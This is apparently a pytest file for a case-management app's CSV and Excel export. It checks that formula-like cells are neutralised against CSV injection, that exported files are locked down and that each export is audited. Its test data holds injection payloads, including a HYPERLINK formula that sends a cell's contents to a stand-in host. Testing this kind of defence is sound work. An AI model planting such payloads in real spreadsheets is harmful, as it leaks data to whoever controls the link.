"""Any list out to CSV and Excel (issue 17 part 5): an XLSX read back with openpyxl, formula
cells proved neutralised in both formats (OWASP CSV injection), one audit row per export naming
the list, its row count and cases, and no file without its audit row."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import date

import openpyxl
import pytest
from sqlalchemy import select

from rso_manager.domain.spreadsheet_cells import cell_text, inert_text, is_formula_like
from rso_manager.persistence import models as m
from rso_manager.services.errors import AccountChanged, ValidationFailed
from rso_manager.services.exchange import spreadsheet_out

HEADER = ("Reference", "Name", "Date of birth", "Note")
EVIL = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")
ROWS = [("RSO-000001", "SMITH, Jo", date(1980, 5, 17), "plain")] + [
    (f"RSO-00000{i + 2}", f"NAME{i}", None, evil) for i, evil in enumerate(EVIL)]


@pytest.mark.parametrize("text", EVIL)
def test_the_rule_makes_every_formula_start_inert(text):
    assert is_formula_like(text) and inert_text(text) == "'" + text
    assert cell_text(text) == "'" + text and cell_text("Smith") == "Smith"
    assert cell_text(date(2026, 1, 2)) == "02/01/2026" and cell_text(None) == "" and cell_text(3) == "3"


def _events(services):
    with services.session_factory() as s:
        return list(s.scalars(select(m.AuditEvent).where(m.AuditEvent.action == spreadsheet_out.EXPORT_ACTION)))


def test_xlsx_reads_back_with_formula_cells_stored_as_text(services, world, tmp_path):
    path = tmp_path / "caseload.xlsx"
    done = spreadsheet_out.export_list(services, world.om, title="Caseload: mine", header=HEADER, rows=ROWS,
                                       path=str(path), fmt="xlsx", references=[r[0] for r in ROWS])
    assert done.rows == len(ROWS)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    ws = openpyxl.load_workbook(path).active
    assert [c.value for c in ws[1]] == list(HEADER)
    assert ws["C2"].value.date() == date(1980, 5, 17) and ws["C2"].number_format == "DD/MM/YYYY"
    for row, evil in enumerate(EVIL, start=3):
        cell = ws.cell(row=row, column=4)
        assert cell.data_type == "s", f"{evil!r} was stored as a formula"
        # (XML reads a carriage return back as a line feed)
        assert cell.quotePrefix and cell.value in (evil, evil.replace("\r", "\n"))
    assert "OFFICIAL-SENSITIVE" in ws.oddHeader.center.text
    [event] = _events(services)
    details = json.loads(event.details_json)
    assert details["list"] == "Caseload: mine" and details["rows"] == len(ROWS) and details["format"] == "xlsx"
    assert details["references"] == [r[0] for r in ROWS] and event.user_id == world.om.user_id


def test_csv_cells_get_a_leading_apostrophe(services, world, tmp_path):
    path = tmp_path / "caseload.csv"
    spreadsheet_out.export_list(services, world.om, title="Caseload", header=HEADER, rows=ROWS,
                                path=str(path), fmt="csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the BOM as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(HEADER) and rows[1] == ["RSO-000001", "SMITH, Jo", "17/05/1980", "plain"]
    assert [r[3] for r in rows[2:]] == ["'" + e for e in EVIL]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)


def test_bad_requests_name_the_field_and_leave_no_file_and_no_audit_row(services, world, tmp_path):
    with pytest.raises(ValidationFailed) as bad:
        spreadsheet_out.export_list(services, world.om, title="Caseload", header=HEADER, rows=ROWS,
                                    path=str(tmp_path / "x.ods"), fmt="ods")
    assert bad.value.for_field("format")
    with pytest.raises(ValidationFailed) as unwritable:
        spreadsheet_out.export_list(services, world.om, title="Caseload", header=HEADER, rows=ROWS,
                                    path=str(tmp_path / "missing" / "x.csv"), fmt="csv")
    assert unwritable.value.for_field("path")
    assert _events(services) == []


def test_a_closed_account_exports_nothing(services, world, tmp_path):
    with services.session_factory.begin() as s:
        s.get(m.User, world.om.user_id).active = False
    with pytest.raises(AccountChanged):
        spreadsheet_out.export_list(services, world.om, title="Caseload", header=HEADER, rows=ROWS,
                                    path=str(tmp_path / "x.csv"), fmt="csv")
    assert not (tmp_path / "x.csv").exists()


def test_a_large_list_streams_to_xlsx(sqlite_services, world, tmp_path):
    rows = [(f"RSO-{i:06d}", f"NAME{i}, Test", date(1980, 1, 1 + i % 28), "=1" if i % 7 == 0 else "ok")
            for i in range(5_000)]
    path = tmp_path / "big.xlsx"
    spreadsheet_out.export_list(sqlite_services, world.lead, title="All cases", header=HEADER, rows=rows,
                                path=str(path), fmt="xlsx")
    ws = openpyxl.load_workbook(path, read_only=True).active
    assert sum(1 for _ in ws.iter_rows(values_only=True)) == 5_001
